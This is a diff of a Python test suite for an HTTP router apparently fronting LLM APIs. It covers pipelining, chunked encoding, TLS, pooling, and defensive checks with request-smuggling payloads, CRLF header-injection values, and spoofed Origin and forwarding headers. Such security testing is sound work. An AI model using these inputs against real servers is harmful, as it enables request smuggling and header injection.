-        found = routing(json.dumps(table))
-        assert smolrouter.resolve(found, "a", "10.0.0.1").instances
-
-
-@fuzz(lambda st: {"text": st.text(max_size=60)})
-def test_fuzz_routing_text(text: str) -> None:
-    for given in (text, "{" + text, "servers:\n  " + text):
-        with contextlib.suppress(smolrouter.ConfigError):
-            routing(given)
-
-
-@fuzz(lambda st: {"text": st.text(max_size=30)})
-def test_fuzz_small_readers(text: str) -> None:
-    """Each reader of one value returns it or raises its own error."""
-    for item in dataclasses.fields(smolrouter.Settings):
-        with contextlib.suppress(ValueError):
-            item.metadata["parse"](text)
-    latin = text.encode("utf-8", "replace").decode("latin-1")
-    lines = [
-        (n, n, latin)
-        for n in ("origin", "cookie", "authorization", "x-forwarded-for", "host", "connection")
-    ]
-    fields = smolrouter.Fields(lines)
-    smolrouter.parse_retry_after(text, 0.0)
-    smolrouter.find_tokens(fields, True)
-    smolrouter.without_tokens(fields, SECRET_KEY, 0.0)
-    networks = smolrouter.parse_networks("0.0.0.0/0 ::/0")
-    assert smolrouter.is_address(smolrouter.client_address("10.0.0.1", fields, networks))
-    with contextlib.suppress(smolrouter.RouterError):
-        smolrouter.check_browser(fields, latin, True, smolrouter.Settings(), "machine")
-    value = smolrouter.encode_field_value(text)
-    assert value.isascii() and value.isprintable()
-
-
-@fuzz(
-    lambda st: {
-        "bits": pieces_of(
-            st,
-            [
-                b"--b",
-                b"\r\n",
-                b"--",
-                b'Content-Disposition: form-data; name="model"',
-                b"\r\n\r\n",
-                b"tiny",
-                b'; filename="',
-                b'"',
-                b"name=model",
-                b"\\",
-                b"content-disposition:",
-            ],
-            20,
-        ),
-        "kind": st.sampled_from(["multipart/form-data; boundary=b", 'x; boundary="b"', "x", ";"]),
-    }
-)
-def test_fuzz_forms(bits: list[bytes], kind: str) -> None:
-    """A form that needs no change is not changed; its model is where it says."""
-    content = b"--b" + b"".join(bits)
-    with contextlib.suppress(smolrouter.MalformedContent):
-        ask_ = smolrouter.read_form(kind, "/v1/x", "", content)
-        same = smolrouter.encode_span(ask_, smolrouter.Rewrite(ask_.model))
-        assert same == content
-        assert content[slice(*ask_.span)].decode("utf-8", "replace") == ask_.model
-
-
-@fuzz(
-    lambda st: {
-        "docs": st.lists(
-            json_values(st)
-            | st.fixed_dictionaries(
-                {},
-                optional={
-                    "choices": json_values(st)
-                    | st.lists(
-                        st.fixed_dictionaries(
-                            {},
-                            optional={
-                                "delta": json_values(st)
-                                | st.fixed_dictionaries(
-                                    {},
-                                    optional={
-                                        "content": json_values(st) | st.sampled_from(TEXT_BITS),
-                                        "tool_calls": json_values(st),
-                                        "reasoning_content": json_values(st),
-                                    },
-                                ),
-                                "index": json_values(st),
-                                "text": json_values(st),
-                                "finish_reason": json_values(st),
-                            },
-                        ),
-                        max_size=2,
-                    ),
-                    "usage": json_values(st),
-                    "timings": json_values(st),
-                    "error": json_values(st),
-                },
-            ),
-            max_size=4,
-        ),
-        "ollama": st.booleans(),
-        "stream": st.booleans(),
-    }
-)
-def test_fuzz_answers(docs: list, ollama: bool, stream: bool) -> None:
-    """An answer of any shape is relayed or is a BadGateway, never a fault of ours."""
-    dialect = smolrouter.OLLAMA if ollama else smolrouter.OPENAI
-    path = "/api/chat" if ollama else CHAT
-    body = dumps({"model": "m", "messages": [{"role": "user", "content": "x"}], "stream": stream})
-    asked = dialect.read(path, "", body)
-    timing = smolrouter.Timing(0.0, 1, 1)
-    plan = smolrouter.AnswerPlan(
-        asked, dialect, not ollama, smolrouter.FilterRules(True, True), True, True, lambda: timing
-    )
-    kind = "text/event-stream" if stream else "application/json"
-    transform = smolrouter.choose_transform(plan, 200, kind)
-    allowed = (smolrouter.BadGateway, *smolrouter.ODD_SHAPES)
-    with contextlib.suppress(*allowed):
-        for doc in docs or [{}]:
-            data = json.dumps(doc).encode()
-            transform.feed(b"data: " + data + b"\n\n" if stream else data)
-        transform.finish()
-
-
-@functools.cache
-def scratch_store() -> Any:
-    """A database for one row."""
-    folder = tempfile.mkdtemp(prefix="smol-")
-    AT_END.callback(shutil.rmtree, folder, ignore_errors=True)
-    store = smolrouter.Store(smolrouter.Settings.from_mapping({"DB_PATH": f"{folder}/log.db"}))
-    AT_END.callback(store.close)
-    return store
-
-
-@fuzz(
-    lambda st: {
-        "path": st.sampled_from([*smolrouter.NO_THINK_MEMBERS, "/v1/embeddings", "/v1/x"]),
-        "doc": json_values(st)
-        | st.fixed_dictionaries(
-            {},
-            optional={
-                name: json_values(st)
-                | st.lists(
-                    st.fixed_dictionaries(
-                        {},
-                        optional={
-                            part: json_values(st)
-                            for part in (
-                                "role",
-                                "content",
-                                "tool_calls",
-                                "images",
-                                "type",
-                                "text",
-                                "name",
-                            )
-                        },
-                    ),
-                    max_size=3,
-                )
-                for name in ("messages", "prompt", "input", "system", "instructions", "images")
-            },
-        ),
-        "said": st.lists(
-            json_values(st)
-            | st.fixed_dictionaries(
-                {},
-                optional={
-                    name: json_values(st)
-                    | st.lists(
-                        st.fixed_dictionaries(
-                            {},
-                            optional={
-                                part: json_values(st)
-                                for part in ("index", "delta", "message", "text", "content")
-                            },
-                        ),
-                        max_size=2,
-                    )
-                    for name in (
-                        "choices",
-                        "message",
-                        "response",
-                        "type",
-                        "delta",
-                        "output",
-                        "usage",
-                        "prompt_tokens",
-                        "eval_count",
-                    )
-                },
-            ),
-            max_size=3,
-        ),
-        "odd": st.text(max_size=5) | st.sampled_from(["\ud800", "a\0b", "x" * 300]),
-        "status": st.sampled_from([0, 200, 404, 499, 502]),
-        "stream": st.booleans(),
-    }
-)
-def test_fuzz_log(path: str, doc: Any, said: list, odd: str, status: int, stream: bool) -> None:
-    """Whatever passed through can be read, packed, written to a database and shown."""
-    pieces = [b"data: %b\n\n" % json.dumps(d).encode() if stream else dumps(d) for d in said]
-    target = f"{path}?key={urllib.parse.quote(odd, errors='replace')}"
-    top = smolrouter.parse_request_head(f"POST {target} HTTP/1.1\r\nHost: a".encode())
-    asked = smolrouter.Request(top, None, None, "::1", dumps(doc))
-    step = smolrouter.Step(odd, True, odd)
-    decision = smolrouter.Decision(odd, odd, odd, "failover", (), (step,))
-    record = smolrouter.Record("id", asked, "openai", stream, decision)
-    record.id, record.finished, record.status = 1, record.clock + 1.0, status
-    record.sent_model = record.error = odd
-    record.pieces = pieces
-    record.attempts = [smolrouter.Attempt(odd, odd, None, odd, 1.0)]
-    note = smolrouter.make_note(record)
-    assert marshal.loads(marshal.dumps(tuple(note), 2)) == tuple(note)
-    detail = smolrouter.make_detail(note, 1 << 20)
-    row = smolrouter.make_row(note, detail)
-    entry = smolrouter.make_entry(row, detail)
-    store = scratch_store()
-    db = store.open()
-    store.write([], [entry], {})
-    (kept,) = db.execute(f"SELECT {smolrouter.COLUMNS} FROM requests").fetchall()
-    blobs = [blob and blob[1] for blob in entry.blobs]
-    document = smolrouter.detail_document(
-        smolrouter.Row._make(kept), smolrouter.read_detail(entry.data, blobs)
-    )
-    assert json.loads(smolrouter.encode_json(document))["status_code"] == (status or None)
-    for form in ("csv", "jsonl", "openai"):
-        assert smolrouter.export_page(store, db, {"format": form})[1] == 0
-
-
-# ======================================================================================
-# Sockets
-# ======================================================================================
-
 CHAT = "/v1/chat/completions"
-FINE: list[Step] = json_answer({"fine": True})
 ASKS: dict[str, dict[str, Any]] = {
     CHAT: {"messages": [{"role": "user", "content": "hi"}]},
     "/v1/completions": {"prompt": "hi"},
@@ -2353,6 +1098,17 @@ ASKS: dict[str, dict[str, Any]] = {
     "/api/embed": {"input": "hi"},
     "/v1/rerank": {"query": "hi"},
 }
+ALL_WAYS = [
+    (path, stream)
+    for path in ASKS
+    for stream in ([False] if "embed" in path or "rerank" in path else [False, True])
+]
+
+
+def asking(path: str, model: str, stream: bool) -> dict[str, Any]:
+    """The document of a request to this endpoint."""
+    told = {"stream": stream} if (path, True) in ALL_WAYS else {}
+    return {**ASKS[path], "model": model, **told}
 
 
 def get(path: str, fields: Pairs = (), version: str = "1.1") -> bytes:
@@ -2372,12 +1128,6 @@ def post_chunks(path: str, *pieces: bytes, end: bytes = b"0\r\n\r\n") -> bytes:
     return top + b"".join(chunked(*pieces, end=end))
 
 
-def at_once(task: Callable[..., Any], *inputs: Iterable[Any], workers: int = 8) -> list:
-    """The results of a task for every input, several at a time."""
-    with concurrent.futures.ThreadPoolExecutor(workers) as pool:
-        return list(pool.map(task, *inputs))
-
-
 def receive_until(sock: socket.socket, *marks: bytes) -> bytes:
     """Read until all of these have come, one after the other."""
     data, at = b"", 0
@@ -2390,3836 +1140,13 @@ def receive_until(sock: socket.socket, *marks: bytes) -> bytes:
     return data
 
 
-# == 1. HTTP/1.1, as a client sees it ==============================================
-
-
-def test_one_connection_serves_many_requests() -> None:
-    with connect(shared().port) as sock:
-        for turn in range(3):
-            got = parse(exchange(sock, get(f"/v1/turn-{turn}")))
-            assert (got.status, got.json["target"]) == (200, f"/v1/turn-{turn}")
-
-
-def test_connection_close_is_obeyed() -> None:
-    data = raw(shared().port, get("/v1/last", [("Connection", "close")]), answers=0)
-    assert parse(data).status == 200
-    assert parse(data).get("Connection") == "close"
-
-
-def test_pipelined_requests_are_answered_in_order() -> None:
-    slow = stage().plays([0.2, *json_answer({"target": "the slow one"})])
-    document = dumps(chat("tiny", "the third"))
-    requests = [
-        get(f"/v1/{slow}"),
-        get("/v1/second"),
-        post(CHAT, chat("tiny", "the third")),
-        post_chunks(CHAT, document[:9], document[9:]),
-        post("/api/chat", chat("tiny", "the fifth", stream=False)),
-        *(get(f"/v1/number-{n}") for n in range(20)),
-    ]
-    data = raw(shared().port, b"".join(requests), answers=len(requests))
-    answers, rest = split_answers(data)
-    assert [a.status for a in answers] == [200] * 25
-    assert not rest
-    assert answers[0].json["target"] == "the slow one"
-    assert answers[1].json["target"] == "/v1/second"
-    assert answers[2].text == answers[3].text == "You said: the third"
-    assert answers[4].text == "You said: the fifth"
-    assert [a.json["target"] for a in answers[5:]] == [f"/v1/number-{n}" for n in range(20)]
-
-
-def test_a_request_pipelined_behind_a_stream_is_kept() -> None:
-    gate = threading.Event()
-
-    def script(received: Received) -> Iterator[Step]:
-        yield from stream_answer([event({"n": 1})], whole=False)
-        gate.wait(PATIENCE)
-        yield from chunked(event("[DONE]"))
-
-    model = stage().plays(script)
-    with connect(shared().port) as sock:
-        sock.sendall(post(CHAT, chat(model, stream=True)))
-        assert receive_until(sock, b'{"n":1}')
-        sock.sendall(get("/v1/behind"))
-        gate.set()
-        data = receive_until(sock, b"/v1/behind", b"}")
-    assert data.index(b"[DONE]") < data.index(b"0\r\n\r\n") < data.index(b"/v1/behind")
-
-
-DOCUMENT = dumps(chat("tiny", "in pieces"))
-
-
-@pytest.mark.parametrize(
-    "data",
-    {
-        "one chunk": post_chunks(CHAT, DOCUMENT),
-        "a byte each": post_chunks(CHAT, *(bytes([b]) for b in DOCUMENT)),
-        "upper-case sizes": post_chunks(CHAT, DOCUMENT, end=b"").replace(
-            b"\r\n%x\r\n" % len(DOCUMENT), b"\r\n%X\r\n" % len(DOCUMENT)
-        )
-        + b"000\r\n\r\n",
-        "leading zeros": post_chunks(CHAT, DOCUMENT).replace(b"\r\n\r\n", b"\r\n\r\n00", 1),
-        "extensions": post_chunks(CHAT).removesuffix(b"0\r\n\r\n")
-        + b'%x;a;b=c;d="e f"\r\n%s\r\n0;last=1\r\n\r\n' % (len(DOCUMENT), DOCUMENT),
-        "trailers": post_chunks(CHAT, DOCUMENT, end=b"0\r\nX-Late: secret\r\nB: c\r\n\r\n"),
-    }.items(),
-    ids=lambda item: item[0],
-)
-def test_chunked_request(data: tuple[str, bytes]) -> None:
-    with connect(shared().port) as sock:
-        assert parse(exchange(sock, data[1])).text == "You said: in pieces"
-        assert parse(exchange(sock, get("/v1/after"))).json["target"] == "/v1/after"
-
-
-def test_trailers_of_a_request_stop_here() -> None:
-    model = stage().plays(FINE)
-    end = b"0\r\nX-Late: secret\r\nAuthorization: Bearer late\r\n\r\n"
-    raw(shared().port, post_chunks(CHAT, dumps(chat(model)), end=end))
-    (heard,) = stage().heard(model)
-    assert heard.json["model"] == model
-    assert b"late" not in heard.raw_head.lower()
-
-
-def test_request_split_at_every_position() -> None:
-    data = post_chunks(CHAT, DOCUMENT[:30], DOCUMENT[30:])
-
-    def split(at: int) -> str:
-        return parse(raw(shared().port, data[:at], 0.003, data[at:])).text
-
-    assert set(at_once(split, range(1, len(data)))) == {"You said: in pieces"}
-
-
-def test_request_byte_by_byte() -> None:
-    steps: list[bytes | float] = []
-    for byte in post(CHAT, chat("tiny", "slowly")):
-        steps += [bytes([byte]), 0.001]
-    assert parse(raw(shared().port, *steps)).text == "You said: slowly"
-
-
-def test_chunked_answer() -> None:
-    pieces = [b"{", b'"a"', b": ", b"[1, 2]", b"}"]
-    name = stage().plays(stream_answer(pieces, kind="application/json"))
-    got = request(shared().port, "GET", f"/v1/{name}")
-    assert (got.content, got.whole) == (b'{"a": [1, 2]}', True)
-
-
-def test_trailers_of_an_answer_stop_here() -> None:
-    end = b"0\r\nX-Late: secret\r\n\r\n"
-    steps = [*stream_answer([b"{}"], kind="application/json", whole=False), end]
-    name = stage().plays(steps)
-    for data in (get(f"/v1/{name}"), post(CHAT, chat(name))):
-        with connect(shared().port) as sock:
-            assert b"secret" not in exchange(sock, data)
-            assert parse(exchange(sock, get("/v1/after"))).status == 200
-
-
-@pytest.mark.parametrize("version", ["1.1", "1.0"])
-def test_answer_that_ends_with_the_connection(version: str) -> None:
-    steps = [head(200, [("Content-Type", "text/plain")]), b"all ", b"of it", CLOSE]
-    name = stage().plays(steps)
-    data = raw(shared().port, get(f"/v1/{name}", [("Connection", "close")], version), answers=0)
-    assert parse(data).content == b"all of it"
-
-
-def test_head_has_the_fields_and_no_content() -> None:
-    name = stage().plays(lambda r: [head(200, [("Content-Length", "12345")])])
-    with connect(shared().port) as sock:
-        ask_head = encode_request("HEAD", f"/v1/{name}")
-        got = parse(exchange(sock, ask_head, to_head=True), to_head=True)
-        assert (got.status, got.get("Content-Length")) == (200, "12345")
-        assert parse(exchange(sock, get("/v1/after"))).json["target"] == "/v1/after"
-
-
-def test_head_of_the_root_says_that_it_runs() -> None:
-    data = raw(shared().port, encode_request("HEAD", "/"), to_head=True)
-    assert parse(data, to_head=True).status == 200
-    assert data.endswith(b"\r\n\r\n")
-
-
-@pytest.mark.parametrize("status", [204, 304])
-def test_statuses_without_content(status: int) -> None:
-    name = stage().plays([head(status, [("ETag", '"x"'), ("Content-Length", "7")])])
-    with connect(shared().port) as sock:
-        for _ in range(2):  # on the same upstream connection too
-            got = parse(exchange(sock, get(f"/v1/{name}")))
-            assert (got.status, got.content, got.get("ETag")) == (status, b"", '"x"')
-        assert parse(exchange(sock, get("/v1/after"))).json["target"] == "/v1/after"
-
-
-def test_expect_100_continue() -> None:
-    whole = post(CHAT, chat("tiny", "go on"), [("Expect", "100-continue")])
-    top, _, content = whole.partition(b"\r\n\r\n")
-    with connect(shared().port) as sock:
-        sock.sendall(top + b"\r\n\r\n")
-        interim = receive_until(sock, b"\r\n\r\n")
-        assert interim.startswith(b"HTTP/1.1 100 ")
-        assert parse(exchange(sock, content)).text == "You said: go on"
-
-
-def test_expect_of_a_content_too_large_is_refused_at_once() -> None:
-    fields = [("Expect", "100-continue"), ("Content-Length", "9" * 12)]
-    data = raw(shared().port, encode_request("POST", CHAT, None, fields), answers=0)
-    assert data.startswith(b"HTTP/1.1 413 ")
-
-
-def test_http_1_0_never_gets_an_interim_answer() -> None:
-    name = stage().plays([b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n", *FINE])
-    fields = [("Expect", "100-continue")]
-    data = raw(shared().port, post(CHAT, chat(name), fields, "1.0"), answers=0)
-    assert parse(data).json == {"fine": True}
-    assert b" 100 " not in data and b" 103 " not in data
-
-
-@pytest.mark.parametrize("end", [[], [DROP]], ids=["closed", "reset"])
-def test_http_1_0_can_tell_a_broken_answer(end: list[Step]) -> None:
-    """Only the close ends it, so a cut answer is reset; a whole one is not."""
-    begun = [head(200, [("Transfer-Encoding", "chunked")]), *chunked(b"hello", end=b"")]
-    name = stage().plays([*begun, b"5\r\nhe", *end, CLOSE])
-    with pytest.raises(ConnectionResetError), connect(shared().port) as sock:
-        sock.sendall(post("/v1/images/x", {"model": name}, version="1.0"))
-        while sock.recv(4096):
-            pass
-    name = stage().plays([*begun, b"0\r\n\r\n"])
-    data = raw(shared().port, post("/v1/images/x", {"model": name}, version="1.0"), answers=0)
-    assert parse(data).content == b"hello"
-
-
-@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
-def test_http_1_0_gets_no_chunks_and_a_close(path: str) -> None:
-    data = raw(shared().port, post(path, chat("tiny", stream=True), version="1.0"), answers=0)
-    assert b"transfer-encoding" not in data.lower()
-    assert parse(data).text == "You said: hi"
-
-
-def test_a_client_that_leaves_while_its_content_is_read(kept: Kept) -> None:
-    name = stage().plays([HANG])
-    with Router(kept.settings) as router:
-        with connect(router.port) as sock:
-            sock.sendall(post(CHAT, {**chat(name), "x": "y" * (2 << 20)}))
-        assert kept.written(1) == 1
-    assert kept.ask("SELECT status_code, error_message FROM requests") == [(499, "client_closed")]
-
-
-@pytest.mark.parametrize("kind", ["application/x-www-form-urlencoded", "text/plain", None])
-def test_a_translated_request_is_json_whatever_it_was_called(kind: str | None) -> None:
-    for path, document in ASKS.items():
-        if path.startswith("/api/"):
-            name = stage().plays([*FINE])
-            data = encode_request("POST", path, {**document, "model": name, "stream": False})
-            called = f"Content-Type: {kind}\r\n".encode() if kind else b""
-            raw(shared().port, data.replace(b"Content-Type: application/json\r\n", called))
-            assert stage().heard(name)[0].get_all("Content-Type") == ["application/json"]
-
-
-def test_http_1_0_without_keep_alive_is_closed() -> None:
-    data = raw(shared().port, b"GET /v1/old HTTP/1.0\r\n\r\n" * 2, answers=0)
-    answers, rest = split_answers(data)
-    assert [a.status for a in answers] == [200]
-    assert not rest
-
-
-def test_http_1_0_with_keep_alive_stays() -> None:
-    with connect(shared().port) as sock:
-        for turn in range(2):
-            asked = get(f"/v1/old-{turn}", [("Connection", "keep-alive")], "1.0")
-            got = parse(exchange(sock, asked))
-            assert (got.status, got.json["target"]) == (200, f"/v1/old-{turn}")
-            assert (got.get("Connection") or "").lower() == "keep-alive"
-
-
-def test_ipv6_on_both_sides() -> None:
-    try:
-        upstream = Upstream(host="::1")
-    except OSError:
-        pytest.skip("this machine has no ::1")
-    settings = {"LISTEN_HOST": "::1", "DEFAULT_UPSTREAM": upstream.url}
-    with upstream, Router(settings) as router:
-        assert router.url.startswith("http://[::1]:")
-        got = request(router.port, "POST", CHAT, chat("tiny"), host="::1")
-        assert got.text == "You said: hi"
-        assert upstream.heard("tiny")[0].get("Host") == upstream.authority
-
-
-def test_absolute_form_never_chooses_the_upstream() -> None:
-    name = stage().plays(FINE)
-    data = b"GET http://elsewhere.example:81/v1/%s?q=1 HTTP/1.1\r\nHost: b\r\n\r\n"
-    assert parse(raw(shared().port, data % name.encode())).status == 200
-    (heard,) = stage().heard(name)
-    assert heard.target == f"/v1/{name}?q=1"
-    assert heard.get_all("Host") == [stage().authority]
-
-
-# -- upstreams: TLS, the pool ------------------------------------------------------
-
-
-def secure() -> tuple[str, Upstream]:
-    """The file of a certificate that nobody trusts, and an upstream that shows it."""
-    made = certificate()
-    if made is None:
-        pytest.skip("no openssl here to make a certificate")
-    return made[0], Upstream(tls=made[1])
-
-
-def test_tls_upstream_with_a_trusted_certificate() -> None:
-    trusted, upstream = secure()
-    settings = {"DEFAULT_UPSTREAM": upstream.url, "SSL_CERT_FILE": trusted}
-    with upstream, Router(settings) as router:
-        assert ask(router, "tiny").text == "You said: hi"
-        assert ask(router, "tiny", stream=True).text == "You said: hi"
-
-
-def test_tls_upstream_with_an_unknown_certificate_is_refused() -> None:
-    _, upstream = secure()
-    with upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
-        got = ask(router, "tiny")
-        assert got.status == 502
-        assert "certificate" in got.json["error"]["message"].lower()
-        assert not upstream.requests
-
-
-def test_tls_upstream_with_verify_false() -> None:
-    _, upstream = secure()
-    routes = {
-        "servers": {"self-signed": {"url": upstream.url, "verify": False}},
-        "routes": [{"match": {"model": "tiny"}, "route": {"upstream": "self-signed"}}],
-    }
-    settings = {"DEFAULT_UPSTREAM": upstream.url}
-    with upstream, Router(settings, routes) as router:
-        assert ask(router, "tiny").text == "You said: hi"
-
-
-@contextlib.contextmanager
-def pair(script: Script | None = None, **settings: Any) -> Iterator[tuple]:
-    """A router with an upstream of its own."""
-    with (
-        Upstream(script) as upstream,
-        Router({"DEFAULT_UPSTREAM": upstream.url, **settings}) as router,
-    ):
-        yield router, upstream
-
-
-def test_upstream_connections_are_reused() -> None:
-    with pair() as (router, upstream):
-        for _ in range(5):
-            assert ask(router, "tiny").status == 200
-            assert ask(router, "tiny", stream=True).whole
-        assert len({r.connection for r in upstream.heard("tiny")}) == 1
-
-
-def test_a_pooled_connection_that_was_closed_is_not_used() -> None:
-    with pair(lambda r: [*FINE, CLOSE]) as (router, upstream):
-        for turn in range(1, 4):
-            assert ask(router, "tiny").json == {"fine": True}
-            assert len(upstream.heard("tiny")) == turn
-            last = upstream.connections[upstream.heard("tiny")[-1].connection]
-            assert until(functools.partial(getattr, last, "closed"))
-
-
-POISON = b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\npoisoned"
-
-
-@pytest.mark.parametrize("pause", [0.0, 0.05])
-@pytest.mark.parametrize("junk", [POISON, b"\r\n", b"x"])
-def test_an_answer_that_nobody_asked_for_is_given_to_nobody(junk: bytes, pause: float) -> None:
-    said: set[int] = set()
-
-    def script(received: Received) -> Iterator[Step]:
-        whole = json_answer({"to": received.json["n"]})[0]
-        if pause:
-            yield from (whole, pause, junk)
-        else:
-            yield whole + junk
-        said.add(received.json["n"])
-
-    model = stage().plays(script)
-    for turn in range(4):
-        assert ask(shared(), model, n=turn).json == {"to": turn}
-        assert until(functools.partial(said.issuperset, {turn}))
-        time.sleep(pause)
-
-
-def dies_when_reused(upstream: Upstream, end: Iterable[Step]) -> Script:
-    """Answer the first request of a connection and play `end` to the second."""
-
-    def script(received: Received) -> Iterable[Step]:
-        return FINE if upstream.connections[received.connection].requests < 2 else end
-
-    return script
-
-
-@pytest.mark.parametrize("end", [DROP, CLOSE], ids=repr)
-@pytest.mark.parametrize("stream", [False, True])
-def test_one_silent_retry_when_a_reused_connection_dies(end: Step, stream: bool) -> None:
-    with pair() as (router, upstream):
-        upstream.script = dies_when_reused(upstream, [end])
-        for _ in range(2):
-            assert ask(router, "tiny", stream=stream).json == {"fine": True}
-        first, reused, fresh = (r.connection for r in upstream.heard("tiny"))
-        assert first == reused != fresh
-
-
-def test_no_retry_after_the_first_byte() -> None:
-    with pair() as (router, upstream):
-        upstream.script = dies_when_reused(upstream, [b"HTTP/1.1 200 OK\r\nConte", DROP])
-        assert ask(router, "tiny").status == 200
-        assert ask(router, "tiny").status == 502
-        assert len(upstream.heard("tiny")) == 2
-
-
-def test_no_retry_on_a_fresh_connection() -> None:
-    with pair(lambda r: [DROP]) as (router, upstream):
-        assert ask(router, "tiny").status == 502
-        assert len(upstream.heard("tiny")) == 1
-
-
-# -- content that nobody wanted ----------------------------------------------------
-
-SECRET = "Kp3-vD9xQ2mT7rLw8ZyB4nHs6JcF1gAe"
-SMUGGLED = b"GET /v1/smuggled HTTP/1.1\r\nHost: router\r\n\r\n"
-
-
-@pytest.mark.parametrize(
-    "method, path, status, fields",
-    [
-        ("POST", "/nowhere", 404, []),
-        ("PUT", "/api/chat", 405, []),
-        ("GET", "/api/chat", 405, []),
-        ("POST", CHAT, 400, []),  # it is not JSON
-        ("POST", CHAT, 403, [("Origin", "https://evil.example")]),
-        ("GET", "/v1/content-with-get", 200, []),
-    ],
-)
-@pytest.mark.parametrize("framing", ["length", "chunked"])
-def test_leftover_content_is_not_a_request(
-    method: str, path: str, status: int, fields: Pairs, framing: str
-) -> None:
-    check_leftovers(shared(), stage(), method, path, status, fields, framing)
-
-
-@pytest.mark.parametrize("framing", ["length", "chunked"])
-def test_leftover_content_after_401_is_not_a_request(framing: str) -> None:
-    settings = {"API_SECURITY": "ALWAYS_AUTH", "JWT_SECRET": SECRET}
-    router = router_for({"DEFAULT_UPSTREAM": stage().url, **settings})
-    check_leftovers(router, stage(), "POST", CHAT, 401, [], framing)
-
-
-def check_leftovers(
-    router: Router,
-    upstream: Upstream,
-    method: str,
-    path: str,
-    status: int,
-    fields: Pairs,
-    framing: str,
-) -> None:
-    """The content is read, or the connection is closed; never taken for a request."""
-    length = ("Content-Length", str(len(SMUGGLED)))
-    own = length if framing == "length" else ("Transfer-Encoding", "chunked")
-    content = SMUGGLED if framing == "length" else b"".join(chunked(SMUGGLED))
-    first = encode_request(method, path, None, [own, *fields]) + content
-    last = get("/v1/good", [("Connection", "close")])
-    answers, _ = split_answers(raw(router.port, first + last, answers=0))
-    assert answers[0].status == status
-    assert len(answers) <= 2
-    assert not [r for r in upstream.requests if r.target == "/v1/smuggled"]
-
-
-def test_wrong_method_says_what_is_allowed() -> None:
-    got = request(shared().port, "GET", "/api/chat")
-    assert got.status == 405
-    assert "POST" in (got.get("Allow") or "")
-    assert "error" in got.json
-
-
-ODD: dict[str, bytes] = {
-    "nothing": b"",
-    "half a document": b'{"model": "EVIL"',
-    "two documents": b'{"model": "EVIL"} {}',
-    "an array": b'["EVIL"]',
-    "null": b"null",
-    "no model": b'{"messages": [], "x": "EVIL"}',
-    "null for a model": b'{"model": null, "x": "EVIL"}',
-    "a number for a model": b'{"model": 7, "x": "EVIL"}',
-    "a list for a model": b'{"model": ["EVIL"]}',
-    "not a number": b'{"model": "EVIL", "x": NaN}',
-    "5,000 digits": b'{"model": "EVIL", "x": ' + b"1" * 5000 + b"}",
-    "201 levels": b'{"model": "EVIL", "x": ' + b"[" * 200 + b"]" * 200 + b"}",
-    "100,000 levels": b'{"model": "EVIL", "x": ' + b"[" * 100_000,
-    "no UTF-8": b'{"model": "EVIL", "x": "\xff"}',
-}
-
-
-@pytest.mark.parametrize("path", [CHAT, "/v1/completions", "/api/chat"])
-@pytest.mark.parametrize("name", ODD)
-def test_odd_document_is_answered_400(name: str, path: str) -> None:
-    mark = stage().plays(FINE)
-    content = ODD[name].replace(b"EVIL", mark.encode())
-    got = request(shared().port, "POST", path, content)
-    assert (got.status, bool(got.json["error"])) == (400, True)
-    assert not stage().heard(mark)
-
-
-NAMES = [
-    "a\r\nEvil: 1", "a\nEvil: 2", "a\0b", "\u6a21\u578b", "\xe9", "\ud800", "x" * 999,
-]  # fmt: skip
-
-
-SPLITS = {  # one request each, however somebody may want to read it
-    "h2c upgrade": [
-        ("Upgrade", "h2c"),
-        ("HTTP2-Settings", "AAMAAABkAAQAAP__"),
-        ("Connection", "Upgrade, HTTP2-Settings"),
-    ],
-    "web socket": [("Upgrade", "websocket"), ("Connection", "Upgrade")],
-    "Expect of something else": [("Expect", "the-unexpected")],
-    "method override": [("X-HTTP-Method-Override", "DELETE")],
-    "path override": [("X-Original-URL", "/v1/EVIL"), ("X-Rewrite-URL", "/v1/EVIL")],
-    "Connection hides the length": [("Connection", "Content-Length")],
-    "Connection hides the coding": [("Connection", "Transfer-Encoding")],
-    "Connection hides Host": [("Connection", "Host")],
-    "Keep-Alive with a close": [("Connection", "close, keep-alive")],
-    "lengths of other names": [("Content_Length", "99"), ("X-Content-Length", "99")],
-    "codings of other names": [("X-Transfer-Encoding", "chunked"), ("TE", "chunked")],
-    "Trailer": [("Trailer", "Content-Length, Transfer-Encoding")],
-    "chain of proxies": [("Via", "1.1 a, 1.0 b"), ("Forwarded", "for=1.2.3.4;host=evil")],
-    "another Host behind": [("X-Forwarded-Host", "evil.example")],
-}
-
-
-@pytest.mark.parametrize("name", SPLITS)
-def test_one_request_stays_one(name: str) -> None:
-    """The content itself is a request; nobody may take it for one."""
-    mark = stage().plays(FINE)
-    content = mark.encode() + b"\r\n\r\n" + get(f"/v1/{mark}-inner")
-    top = encode_request("POST", "/v1/other", content, SPLITS[name])
-    top = top.replace(b"application/json", b"text/plain")
-    with connect(shared().port) as sock:
-        assert parse(exchange(sock, top)).status == 200
-    (heard,) = stage().heard(mark)
-    assert (heard.target, heard.content, heard.framing) == ("/v1/other", content, "length")
-    assert heard.get("Upgrade") is None and heard.get_all("Host") == [stage().authority]
-    assert not stage().heard("/v1/EVIL")
-
-
-def test_names_of_the_routing_file_break_no_head() -> None:
-    odd = "two\r\nEvil: 1\nlines \u00e9\0"
-    routes = {
-        "servers": {odd: stage().url},
-        "aliases": {odd: {"instances": [{"server": odd, "model": "tiny\r\nEvil: 1"}]}},
-    }
-    got = ask(router_for({"DEFAULT_UPSTREAM": stage().url}, routes), odd)
-    assert (got.status, got.get("Evil")) == (200, None)
-    assert "Evil: 1" in got.get("X-SmolRouter-Model")
-
-
-@pytest.mark.parametrize("server", [
-    {"headers": {"X-A": "b\r\nEvil: 1"}}, {"headers": {"X-A\r\nEvil": "1"}},
-    {"headers": {"X A": "1"}}, {"headers": {"": "1"}}, {"headers": {"X-A": "b\0"}},
-    {"headers": {"Content-Length": "1"}}, {"headers": {"transfer-encoding": "chunked"}},
-    {"headers": {"Connection": "close"}}, {"api_key": "a\r\nEvil: 1"}, {"api_key": "a\n"},
-])  # fmt: skip
-def test_the_routing_file_cannot_break_a_head(server: dict[str, Any]) -> None:
-    text = json.dumps({"servers": {"a": {"url": "http://a", **server}}})
-    with pytest.raises(smolrouter.ConfigError, match=r"servers\.a"):
-        routing(text)
-
-
-@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
-@pytest.mark.parametrize("model", NAMES, ids=lambda name: ascii(name[:9]))
